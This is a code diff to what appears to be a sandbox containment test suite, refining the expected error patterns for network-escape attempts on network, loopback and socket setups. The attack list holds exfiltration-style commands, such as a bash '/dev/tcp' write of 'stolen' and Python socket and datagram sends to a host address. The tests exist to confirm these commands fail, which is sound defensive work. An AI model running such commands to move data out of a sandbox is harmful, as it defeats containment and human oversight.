@@ -29,6 +29,11 @@ function onNetwork(): boolean {
   return target().link !== undefined;
 }
 
+function byLink(held: Readonly<Record<"socket" | "network" | "loopback", RegExp>>): RegExp {
+  const { link } = target();
+  return link === "network" || link === "loopback" ? held[link] : held.socket;
+}
+
 const sh = (script: string): readonly string[] => ["sh", "-c", script];
 const python = (script: string): readonly string[] => ["/usr/bin/python3", "-c", script];
 const node = (script: string): readonly string[] => ["/opt/claude-bottle/node", "-e", script];
@@ -61,20 +66,32 @@ export function networkAttacks(prey: Prey): readonly Attack[] {
     {
       name: "connects to an address of the host",
       argv: pythonTry(`socket.create_connection(("${address}", ${port}), 3)`),
-      held: onNetwork() ? /^(EHOSTUNREACH|ENETUNREACH)\n$/ : /^ENETUNREACH\n$/,
+      held: byLink({
+        network: /^(EHOSTUNREACH|ENETUNREACH)\n$/,
+        loopback: /^ECONNREFUSED\n$/,
+        socket: /^ENETUNREACH\n$/,
+      }),
     },
     {
       name: "opens a TCP connection with bash alone",
       argv: ["bash", "-c", `echo stolen > /dev/tcp/${address}/${port}`],
-      held: onNetwork() ? /(No route to host|Network is unreachable)/ : /Network is unreachable/,
+      held: byLink({
+        network: /(No route to host|Network is unreachable)/,
+        loopback: /Connection refused/,
+        socket: /Network is unreachable/,
+      }),
     },
     {
       name: "sends a datagram to an address of the host",
       argv: pythonTry(
         `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("${address}", ${port}))`,
       ),
-      // Nobody is the next hop, and a datagram hears of that no more (on-link.ts looks at what arrives).
-      held: onNetwork() ? /^(done|ENETUNREACH)\n$/ : /^ENETUNREACH\n$/,
+      // On a network nobody is the next hop, and a datagram hears of that no more (on-link.ts looks at what arrives).
+      held: byLink({
+        network: /^(done|ENETUNREACH)\n$/,
+        loopback: /^EPERM\n$/,
+        socket: /^ENETUNREACH\n$/,
+      }),
     },
     {
       name: "goes around the proxy with curl",
